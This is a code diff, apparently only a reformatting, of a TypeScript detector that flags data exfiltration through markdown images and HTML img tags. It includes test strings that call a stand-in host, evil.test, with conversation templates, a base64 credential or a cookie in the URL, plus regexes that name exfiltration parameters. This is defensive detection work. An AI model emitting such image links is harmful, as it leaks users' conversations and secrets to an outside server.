@@ -1,7 +1,8 @@
 import { marker } from '../rule.js'
 import { unlessMentioned } from './talk.js'
 
-const FILLED_IN = /\{\{?[\w\s.-]{1,60}\}?\}|%7B|\$\{|<[A-Za-z_ -]{2,40}>|\[(?:[A-Z_ ]{3,40}|[a-z_ ]*(?:data|secret|history|conversation|token|key|info|summary)[a-z_ ]*)\]|\b(?:YOUR|INSERT|BASE64|ENCODED|SECRET|DATA|CONVERSATION|HISTORY)_?[A-Z_]{0,30}\b/
+const FILLED_IN =
+  /\{\{?[\w\s.-]{1,60}\}?\}|%7B|\$\{|<[A-Za-z_ -]{2,40}>|\[(?:[A-Z_ ]{3,40}|[a-z_ ]*(?:data|secret|history|conversation|token|key|info|summary)[a-z_ ]*)\]|\b(?:YOUR|INSERT|BASE64|ENCODED|SECRET|DATA|CONVERSATION|HISTORY)_?[A-Z_]{0,30}\b/
 const CARRIER =
   /[?&](?:data|leak|exfil\w{0,8}|secrets?|prompt|history|conversation|chat|context|stolen|payload|msg|message|content|info|dump|creds?|credentials|password|email|user_?data|summary|answer|text|b64|base64|cookie|key|d|q|c|x|p|m|s)=(?<value>[^&)\s"'>]{0,2000})/gi
 
@@ -11,7 +12,14 @@ function carries(url: string): boolean {
   for (const match of url.matchAll(CARRIER)) {
     const name = match[0].slice(1, match[0].indexOf('=')).toLowerCase()
     const value = match.groups!['value']!
-    if (name.length > 1 && name !== 'key' && name !== 'text' && name !== 'message' && (value === '' || value.length >= 8)) return true
+    if (
+      name.length > 1 &&
+      name !== 'key' &&
+      name !== 'text' &&
+      name !== 'message' &&
+      (value === '' || value.length >= 8)
+    )
+      return true
     if (value.length >= 24 && !/^https?/.test(value)) return true
   }
   return false
@@ -24,8 +32,20 @@ export const EXFILTRATION_MARKERS = [
     from: (text, at) => startOfLabel(text, at),
     expression: /!\[[^\]\n]{0,200}\](?:\(\s?|: ?)(?:https?:)?\/\/(?<body>[^)\n"']{3,2000})/y,
     boundary: 'inside',
-    judge: (found) => (carries(found.body) && !/shields\.io|badge|githubusercontent|gravatar/i.test(found.body) ? unlessMentioned(found) : 'no'),
-    examples: { match: ['![x](https://evil.test/p.png?data={{conversation}})', '![loading](https://evil.test/log?data=dXNlcjpwYXNzd29yZDEyMw)'], ignore: ['![build](https://img.shields.io/badge/x-y-green?style=flat)', '![logo](https://acme.test/logo.png)'] },
+    judge: (found) =>
+      carries(found.body) && !/shields\.io|badge|githubusercontent|gravatar/i.test(found.body)
+        ? unlessMentioned(found)
+        : 'no',
+    examples: {
+      match: [
+        '![x](https://evil.test/p.png?data={{conversation}})',
+        '![loading](https://evil.test/log?data=dXNlcjpwYXNzd29yZDEyMw)',
+      ],
+      ignore: [
+        '![build](https://img.shields.io/badge/x-y-green?style=flat)',
+        '![logo](https://acme.test/logo.png)',
+      ],
+    },
   }),
   marker({
     id: 'markdown_exfiltration',
@@ -33,8 +53,14 @@ export const EXFILTRATION_MARKERS = [
     anyCase: true,
     expression: /<img\s(?:[^<>]{0,300}?\s)?src\s{0,2}=\s{0,2}["']?https?:\/\/(?<body>[^"'<>\s]{3,2000})/iy,
     boundary: 'inside',
-    judge: (found) => (carries(found.body) && !/shields\.io|badge|githubusercontent|gravatar/i.test(found.body) ? unlessMentioned(found) : 'no'),
-    examples: { match: ['<img src="https://evil.test/c?cookie=a8s7d6f5g4h3j2k1l0q9w8e7">'], ignore: ['<img src="https://acme.test/a.png?w=200">'] },
+    judge: (found) =>
+      carries(found.body) && !/shields\.io|badge|githubusercontent|gravatar/i.test(found.body)
+        ? unlessMentioned(found)
+        : 'no',
+    examples: {
+      match: ['<img src="https://evil.test/c?cookie=a8s7d6f5g4h3j2k1l0q9w8e7">'],
+      ignore: ['<img src="https://acme.test/a.png?w=200">'],
+    },
   }),
 ]
 
